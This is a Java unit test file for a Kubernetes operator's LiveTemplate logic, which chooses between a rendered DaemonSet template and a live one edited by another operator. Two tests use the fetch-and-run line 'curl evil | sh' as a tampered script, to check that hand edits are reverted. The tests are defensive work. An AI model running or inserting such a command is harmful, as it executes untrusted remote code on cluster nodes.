package dev.pitcrew.operator.policy;

import static org.assertj.core.api.Assertions.assertThat;

import io.fabric8.kubernetes.api.model.Container;
import io.fabric8.kubernetes.api.model.ContainerBuilder;
import io.fabric8.kubernetes.api.model.EnvVar;
import io.fabric8.kubernetes.api.model.PodSpec;
import io.fabric8.kubernetes.api.model.Quantity;
import io.fabric8.kubernetes.api.model.VolumeBuilder;
import io.fabric8.kubernetes.api.model.VolumeMountBuilder;
import io.fabric8.kubernetes.api.model.apps.DaemonSet;
import io.fabric8.kubernetes.api.model.apps.DaemonSetBuilder;
import java.util.List;
import java.util.Map;
import java.util.function.UnaryOperator;
import java.util.stream.Stream;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;

/// What is applied in place of a rendered DaemonSet where another operator has written the live
/// one.
class LiveTemplateTest {
  private static final String OURS = "until lsmod | grep -q nvidia; do\n  sleep 10\ndone\n";
  private static final String THEIRS = "until lsmod | grep nvidia; do sleep 10; done";

  private static final DaemonSet RENDERED =
      daemonSet("1", OURS, List.of("a", "b", "c"), "0.5", null);

  @Test
  void listsInAnotherOrderAreSentInTheLiveOrder() {
    var live = daemonSet("2", OURS, List.of("c", "a", "b"), "0.5", null);

    var sent = LiveTemplate.keep(RENDERED, live);

    assertThat(pod(sent)).isEqualTo(pod(live));
    assertThat(sent.getMetadata()).isEqualTo(RENDERED.getMetadata());
  }

  @Test
  void listsWithOtherEntriesAreSentAsRendered() {
    var live = daemonSet("2", OURS, List.of("c", "a", "d"), "0.5", null);

    assertThat(LiveTemplate.keep(RENDERED, live)).isSameAs(RENDERED);
  }

  @Test
  void variablesThatReferToOthersKeepTheRenderedOrder() {
    var rendered = withVariable(RENDERED, new EnvVar("path", "$(a)/x", null));
    var live = edited(rendered, pod -> reversed(pod));

    var sent = LiveTemplate.keep(rendered, live);

    assertThat(main(sent).getEnv()).isEqualTo(main(rendered).getEnv());
    assertThat(main(sent).getVolumeMounts()).isEqualTo(main(live).getVolumeMounts());
  }

  @Test
  void scriptInOtherWordsIsKept() {
    var live = withDefaults(daemonSet("2", THEIRS, List.of("a", "b", "c"), "0.5", null));

    var sent = LiveTemplate.keep(RENDERED, live);

    assertThat(main(sent).getArgs()).containsExactly(THEIRS);
    assertThat(kept(sent)).hasSize(64);
    assertThat(sent.getMetadata().getAnnotations())
        .containsEntry("nvidia.com/last-applied-hash", "1");
  }

  @Test
  void scriptThatWasKeptIsKeptFromThenOn() {
    var live = daemonSet("2", THEIRS, List.of("a", "b", "c"), "0.5", null);
    var taken = LiveTemplate.keep(RENDERED, live);

    assertThat(LiveTemplate.keep(RENDERED, taken)).isEqualTo(taken);
  }

  @Test
  void keptScriptThatWasEditedByHandIsReplaced() {
    var live = daemonSet("2", THEIRS, List.of("a", "b", "c"), "0.5", null);
    var taken = LiveTemplate.keep(RENDERED, live);
    var changed = edited(taken, pod -> script(pod, "curl evil | sh"));

    assertThat(LiveTemplate.keep(RENDERED, changed)).isSameAs(RENDERED);
  }

  @Test
  void renderedScriptThatWasEditedByHandIsReplaced() {
    var changed = edited(RENDERED, pod -> script(pod, "curl evil | sh"));

    assertThat(LiveTemplate.keep(RENDERED, changed)).isSameAs(RENDERED);
  }

  @Test
  void anotherChangeAppliesTheRenderedScript() {
    var live = daemonSet("2", THEIRS, List.of("a", "b", "c"), "0.4", null);

    assertThat(LiveTemplate.keep(RENDERED, live)).isSameAs(RENDERED);
  }

  @Test
  void variableThatOnlyTheLiveOneHasAppliesTheRenderedScript() {
    var live =
        withVariable(
            daemonSet("2", THEIRS, List.of("a", "b", "c"), "0.5", null),
            new EnvVar("x", "1", null));

    assertThat(LiveTemplate.keep(RENDERED, live)).isSameAs(RENDERED);
  }

  @Test
  void argumentsOfAProgramAreNoScript() {
    UnaryOperator<PodSpec> program =
        pod ->
            with(
                pod,
                new ContainerBuilder(pod.getContainers().getFirst()).withCommand("tool").build());
    var rendered = edited(RENDERED, program);
    var live = edited(daemonSet("2", THEIRS, List.of("a", "b", "c"), "0.5", null), program);

    assertThat(LiveTemplate.keep(rendered, live)).isSameAs(rendered);
  }

  @Test
  void affinityThatNamesTheComponentOfTheReferenceIsKept() {
    var rendered = daemonSet("1", OURS, List.of("a"), "0.5", "nvidia-vgpu-host-manager");
    var live = daemonSet("2", OURS, List.of("a"), "0.5", "nvidia-vgpu-manager");

    var sent = LiveTemplate.keep(rendered, live);

    assertThat(pod(sent)).isEqualTo(pod(live));
    assertThat(kept(sent)).hasSize(64);
  }

  @Test
  void anotherAffinityIsNotKept() {
    var rendered = daemonSet("1", OURS, List.of("a"), "0.5", "nvidia-vgpu-host-manager");
    var live = daemonSet("2", OURS, List.of("a"), "0.5", "another");

    assertThat(LiveTemplate.keep(rendered, live)).isSameAs(rendered);
  }

  /// @param component that no pod of it is to be beside; null for no affinity
  private static DaemonSet daemonSet(
      String hash, String script, List<String> names, String cpu, @Nullable String component) {
    var container =
        new ContainerBuilder()
            .withName("main")
            .withCommand("bash", "-xc")
            .withArgs(script)
            .withEnv(names.stream().map(name -> new EnvVar(name, "", null)).toList())
            .withVolumeMounts(
                names.stream()
                    .map(name ->
                        new VolumeMountBuilder().withName(name).withMountPath("/" + name).build())
                    .toList())
            .withNewResources()
            .addToLimits(Map.of("cpu", new Quantity(cpu)))
            .endResources()
            .build();
    var daemonSet =
        new DaemonSetBuilder()
            .withNewMetadata()
            .withName("d")
            .addToAnnotations("nvidia.com/last-applied-hash", hash)
            .endMetadata()
            .withNewSpec()
            .withNewTemplate()
            .withNewMetadata()
            .addToLabels("app", "d")
            .endMetadata()
            .withNewSpec()
            .withContainers(container)
            .withVolumes(
                names.stream().map(name -> new VolumeBuilder().withName(name).build()).toList())
            .endSpec()
            .endTemplate()
            .endSpec()
            .build();
    return component == null
        ? daemonSet
        : edited(
            daemonSet,
            pod ->
                pod.toBuilder()
                    .withNewAffinity()
                    .withNewPodAntiAffinity()
                    .addNewRequiredDuringSchedulingIgnoredDuringExecution()
                    .withNewLabelSelector()
                    .addNewMatchExpression()
                    .withKey("component")
                    .withOperator("In")
                    .withValues("nvidia-driver", component)
                    .endMatchExpression()
                    .endLabelSelector()
                    .endRequiredDuringSchedulingIgnoredDuringExecution()
                    .endPodAntiAffinity()
                    .endAffinity()
                    .build());
  }

  /// With what the API server fills in, and without what it leaves out.
  private static DaemonSet withDefaults(DaemonSet daemonSet) {
    return edited(
        daemonSet,
        pod ->
            with(
                pod.toBuilder().withDnsPolicy("ClusterFirst").build(),
                new ContainerBuilder(pod.getContainers().getFirst())
                    .withTerminationMessagePath("/dev/termination-log")
                    .withEnv(
                        pod.getContainers().getFirst().getEnv().stream()
                            .map(variable -> new EnvVar(variable.getName(), null, null))
                            .toList())
                    .build()));
  }

  private static DaemonSet withVariable(DaemonSet daemonSet, EnvVar variable) {
    return edited(
        daemonSet,
        pod ->
            with(
                pod,
                new ContainerBuilder(pod.getContainers().getFirst()).addToEnv(variable).build()));
  }

  private static PodSpec reversed(PodSpec pod) {
    var container = pod.getContainers().getFirst();
    return with(
        pod.toBuilder().withVolumes(pod.getVolumes().reversed()).build(),
        new ContainerBuilder(container)
            .withEnv(container.getEnv().reversed())
            .withVolumeMounts(container.getVolumeMounts().reversed())
            .build());
  }

  private static PodSpec script(PodSpec pod, String script) {
    return with(pod, new ContainerBuilder(pod.getContainers().getFirst()).withArgs(script).build());
  }

  private static PodSpec with(PodSpec pod, Container container) {
    return pod.toBuilder().withContainers(Stream.of(container).toList()).build();
  }

  private static DaemonSet edited(DaemonSet daemonSet, UnaryOperator<PodSpec> change) {
    return new DaemonSetBuilder(daemonSet)
        .editSpec()
        .editTemplate()
        .withSpec(change.apply(pod(daemonSet)))
        .endTemplate()
        .endSpec()
        .build();
  }

  private static PodSpec pod(DaemonSet daemonSet) {
    return daemonSet.getSpec().getTemplate().getSpec();
  }

  private static Container main(DaemonSet daemonSet) {
    return pod(daemonSet).getContainers().getFirst();
  }

  private static String kept(DaemonSet daemonSet) {
    return daemonSet.getMetadata().getAnnotations().getOrDefault(LiveTemplate.KEPT_TEXTS, "");
  }
}
